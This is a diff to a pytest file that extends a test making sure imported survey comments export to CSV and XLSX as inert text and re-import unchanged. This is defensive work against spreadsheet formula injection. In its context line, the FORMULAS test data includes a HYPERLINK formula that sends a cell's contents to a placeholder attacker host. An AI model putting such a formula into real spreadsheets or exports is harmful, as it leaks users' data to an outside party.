@@ -161,7 +161,8 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+2"
 
 @pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
 async def test_exported_comments_never_become_formulas(store: Store, tmp_path: Path, suffix: str) -> None:
-    """Imported comments starting with = + - @ export as inert text, never as live formulas."""
+    """Imported comments starting with = + - @ export as inert text, never as live formulas, and come back
+    unchanged when the export is imported again."""
     header, first = _forms_rows()[:2]
     source = tmp_path / "forms.csv"
     with source.open("w", encoding="utf-8", newline="") as fh:
@@ -185,6 +186,11 @@ async def test_exported_comments_never_become_formulas(store: Store, tmp_path: P
         cells = [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)]
         assert {c.data_type for c in cells} == {"s"}
         assert sorted(str(c.value) for c in cells) == stored
+    async with store.sessions() as s:
+        again = await import_surveys(s, path=out, mapping=load_mapping(OWN), now=NOW)
+        await s.commit()
+        comments = sorted(str(r.comment) for r in (await s.exec(select(SurveyResponse))).all())
+    assert again.imported == len(FORMULAS) and comments == sorted(stored * 2)
 
 
 def test_csv_escapes_tab_and_carriage_return_starts() -> None:
